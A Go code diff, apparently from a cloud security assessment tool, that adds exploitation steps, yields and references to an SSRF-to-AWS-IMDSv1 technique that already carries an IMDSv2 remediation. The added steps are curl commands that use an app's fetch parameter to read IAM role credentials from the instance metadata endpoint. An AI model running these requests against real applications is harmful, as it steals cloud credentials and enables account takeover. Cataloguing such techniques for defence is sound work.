@@ -21,6 +21,13 @@ var SSRFIMDSv1 = &Technique{
 	Remediation: "Require IMDSv2: aws ec2 modify-instance-metadata-options --instance-id <id> " +
 		"--http-tokens required --http-put-response-hop-limit 1 (or disable the endpoint if unused).",
 	Cost:   costExploit,
+	Yields: "the instance profile role's temporary credentials (and the user data)",
+	Steps: []string{
+		"curl 'https://<app>/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/'",
+		"curl 'https://<app>/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/<role>'",
+	},
+	References: []string{"https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
+		"https://krebsonsecurity.com/2019/08/what-we-can-learn-from-the-capital-one-hack/"},
 	Derive: deriveSSRFIMDSv1,
 }
 
